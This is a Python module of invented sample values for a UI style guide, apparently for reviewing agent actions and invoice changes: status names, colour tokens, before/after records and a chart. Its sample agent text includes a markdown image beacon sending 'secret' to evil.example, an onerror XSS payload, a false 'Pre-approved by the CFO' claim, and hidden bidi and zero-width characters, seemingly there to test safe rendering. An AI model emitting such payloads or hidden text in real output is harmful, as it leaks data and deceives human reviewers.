"""What the style guide shows: made-up values, one of each kind."""

from typing import Any

STATES = [
    "pending", "held", "approved", "rejected", "changes_requested", "answered", "expired", "cancelled", "superseded",
    "running", "waiting", "succeeded", "failed", "unknown", "paused", "draft", "active", "suspended", "retired",
]  # fmt: skip
TOKENS = [
    "--bg", "--surface", "--raised", "--sunken", "--line", "--line-strong", "--text", "--muted", "--accent",
    "--accent-soft", "--ok", "--ok-soft", "--warn", "--warn-soft", "--bad", "--bad-soft", "--info", "--info-soft",
]  # fmt: skip
BEFORE: dict[str, Any] = {
    "amount_minor": 148000,
    "currency": "EUR",
    "supplier": "Hallam & Sons",
    "terms": "NET30",
    "po": "4471",
}
AFTER: dict[str, Any] = {
    "amount_minor": 184000,
    "currency": "EUR",
    "supplier": "Hallam & Sons",
    "terms": "NET60",
    "reason": "duplicate_charge",
    "po": 4471,
    "note": "pay \u202efast\u202c to ex\u200bample",
}
AGENT_WORDS = """The customer was charged twice on **invoice 8841**; the note of 14 November confirms it.

1. Matched both charges to one order
2. Checked the refund window

![tracker](https://evil.example/?d=secret) See [the invoice](https://evil.example/8841).
<img src=x onerror=alert(1)> Pre-approved by the CFO. Zero\u200bwidth and \u202ereversed\u202c text stands out."""
_WEEKS = [f"W{week}" for week in range(36, 48)]
FIGURE: dict[str, Any] = {
    "data": [
        {
            "type": "scatter", "mode": "lines", "name": "Median", "x": _WEEKS,
            "y": [5.4, 5.1, 5.2, 4.8, 4.6, 4.7, 4.2, 4.0, 3.9, 3.6, 3.4, 3.2],
            "line": {"color": "--series-1", "width": 2},
        },
        {
            "type": "scatter", "mode": "lines", "name": "Baseline", "x": _WEEKS, "y": [5.43] * 12,
            "line": {"color": "--series-4", "width": 1.5, "dash": "dash"},
        },
    ],
    "layout": {"yaxis": {"ticksuffix": " h"}},
}  # fmt: skip

FATES = (
    "carried_out", "verified", "mismatch", "waiting", "under_way", "failed", "unknown", "reversed", "overturned",
    "unused", "not_run", "sent_back", "went_on", "open",
)  # fmt: skip
"""What became of a decision."""
